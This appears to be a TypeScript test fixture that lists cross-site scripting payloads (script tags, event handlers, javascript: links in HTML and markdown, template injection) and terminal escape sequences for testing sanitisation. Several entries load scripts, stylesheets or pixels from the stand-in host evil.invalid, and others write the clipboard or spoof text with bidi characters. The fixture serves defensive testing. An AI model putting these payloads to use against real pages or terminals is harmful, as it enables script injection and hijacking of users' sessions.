import { TERMINAL_PAYLOADS } from '../../server/test/terminal-payloads.ts'

/* eslint-disable no-template-curly-in-string -- what a template would act on */
/** Each sets `window.owned`, opens a dialog, fetches from elsewhere or acts on a terminal, where a page lets it. All of them fit in one line. */
export const PRINTABLE = [
  '<script>window.owned=1</script>',
  '<script src=//evil.invalid/x.js></script>',
  '<img src=x onerror=window.owned=1>',
  '<img src=http://evil.invalid/pixel>',
  '"><svg onload=alert(1)>',
  '<svg><script>window.owned=1</script></svg>',
  '<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>',
  '<svg><use href="http://evil.invalid/x.svg#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  '<iframe src="javascript:parent.owned=1"></iframe>',
  '<object data="http://evil.invalid/x"></object>',
  '<details open ontoggle=window.owned=1>x</details>',
  '<body onload=window.owned=1><base href=http://evil.invalid/>',
  '<style>@import "http://evil.invalid/x.css";</style>',
  '<link rel=stylesheet href=http://evil.invalid/x.css>',
  '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
  '<form action=http://evil.invalid/><button autofocus onfocus=window.owned=1>x</form>',
  '<a href="javascript:window.owned=1">click</a>',
  '[click](javascript:window.owned=1)',
  '[click](JaVaScRiPt:window.owned=1) [click](data:text/html,<script>window.owned=1</script>)',
  '![pixel](http://evil.invalid/pixel.png)',
  '[x]: javascript:window.owned=1 "x" [x] <javascript:window.owned=1>',
  '{{constructor.constructor("window.owned=1")()}} ${window.owned=1} {{ $el.ownerDocument.defaultView.alert(1) }}',
  '`-alert(1)-` \'-alert(1)-\' </textarea></title></pre><script>window.owned=1</script>',
]

export const CONTROLS = [
  ...TERMINAL_PAYLOADS.filter(payload => payload.length < 1000),
  '\x1B]52;c;b3duZWQ=\x07 OSC 52 writes the clipboard',
  '\x1B]8;;javascript:window.owned=1\x1B\\OSC 8 is a link\x1B]8;;\x1B\\',
  '\x1B]0;owned\x07\x1B]2;owned\x07 OSC 0 and 2 set the title',
  '\x1B[2J\x1B[H\x1B[?1049h\x1B[6n\x1B[999D\x1BP+q\x1B\\ CSI and DCS move, clear and ask',
  '\x1B[31m<img src=x onerror=window.owned=1>\x1B[0m in colour \x1B[38;5;"><script>window.owned=1</script>m',
  'NUL \0 BEL \x07 DEL \x7F C1 \x9B31m\x9D52;c;b3duZWQ=\x9C back \b\b\b<script>window.owned=1</script>',
  '\u202E\u2066evil\u2069\u202C bidi \u200B\uFEFF \uD83D\uDE00 \uFFFE',
]
